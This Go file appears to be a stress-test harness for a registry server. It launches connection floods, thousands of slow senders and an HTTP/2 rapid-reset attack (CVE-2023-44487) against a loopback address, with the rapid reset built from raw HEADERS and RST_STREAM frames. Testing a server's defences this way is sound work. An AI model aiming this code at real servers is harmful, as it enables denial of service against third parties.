package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// storm is one attack, by a process of its own that is told to end by the end of
// its input. All attacks have a steady rate: attackers share the cores with whom
// they attack, and what they waste there says nothing about registerd.
type storm struct {
	what        string
	Kind        string // "" is none
	Window      string
	Address     string
	Connections int           // at once
	Pause       time.Duration // between two strikes on each
}

const stormHost = "rdap.nic.example"

var storms = []storm{
	{what: "nobody attacks"},
	{what: "flood over the caps, 2000/s", Kind: "flood", Window: "whois", Connections: 100, Pause: 50 * time.Millisecond},
	{what: "3000 slow senders", Kind: "slow", Window: "whois", Connections: 3000, Pause: time.Second},
	{what: "rapid reset, 20000/s", Kind: "reset", Window: "rdap", Connections: 10, Pause: 500 * time.Millisecond},
}

// resets are sent in one go: more than net/http allows, so that each go costs the
// attacker a handshake as well.
const resets = 1000

// stormAsTold attacks until its input ends, and says when all have struck.
func stormAsTold(in io.Reader, out io.Writer) error {
	var s storm
	if err := json.NewDecoder(in).Decode(&s); err != nil {
		return fmt.Errorf("storm: reading what to do: %w", err)
	}
	ctx, over := context.WithCancel(context.Background())
	var group sync.WaitGroup
	var landed atomic.Int64
	all := make(chan struct{})
	for i := range s.Connections {
		group.Go(func() {
			first := sync.OnceFunc(func() {
				if landed.Add(1) == int64(s.Connections) {
					close(all)
				}
			})
			for ctx.Err() == nil {
				_ = s.strike(ctx, i, first) // the server is expected to end it
				wait(ctx, s.Pause)
			}
		})
	}
	group.Go(func() {
		_, _ = io.Copy(io.Discard, in)
		over()
	})
	select {
	case <-all:
	case <-time.After(patience):
		over()
		return fmt.Errorf("storm: %d of %d have struck", landed.Load(), s.Connections)
	}
	if err := json.NewEncoder(out).Encode(landed.Load()); err != nil {
		return fmt.Errorf("storm: telling: %w", err)
	}
	group.Wait()
	return nil
}

func wait(ctx context.Context, d time.Duration) {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
	case <-ctx.Done():
	}
}

// strike is one connection, of one of many attackers: eight to an address and a
// thousand to a /24, as much as they may have; a flood comes from one address.
func (s *storm) strike(ctx context.Context, i int, landed func()) error {
	from := net.IPv4(127, 66, byte(i/1000), byte(1+i%1000/8))
	if s.Kind == "flood" {
		from = net.IPv4(127, 66, 0, 1)
	}
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: from}, Timeout: patience}
	c, err := dialer.DialContext(ctx, "tcp", s.Address)
	if err != nil {
		return err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	switch s.Kind {
	case "flood":
		landed()
		_, err := io.Copy(io.Discard, c)
		return err
	case "slow":
		for {
			if _, err := c.Write([]byte("a")); err != nil {
				return err
			}
			landed()
			wait(ctx, s.Pause)
		}
	case "reset":
		return s.resetAll(ctx, c, landed)
	}
	return errors.New("storm: there is no such kind")
}

// resetAll opens streams and resets them at once (CVE-2023-44487).
func (s *storm) resetAll(ctx context.Context, c net.Conn, landed func()) error {
	secure := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: stormHost})
	if err := secure.HandshakeContext(ctx); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, secure) }()
	var head, out bytes.Buffer
	e := hpack.NewEncoder(&head)
	e.SetMaxDynamicTableSize(0)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", stormHost}, {":path", "/help"}} {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // a buffer takes everything
	}
	f := http2.NewFramer(&out, nil)
	out.WriteString(http2.ClientPreface)
	_ = f.WriteSettings()
	for id := uint32(1); ; {
		for range resets {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true})
			_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		if _, err := secure.Write(out.Bytes()); err != nil {
			return err
		}
		landed()
		out.Reset()
		wait(ctx, s.Pause)
	}
}
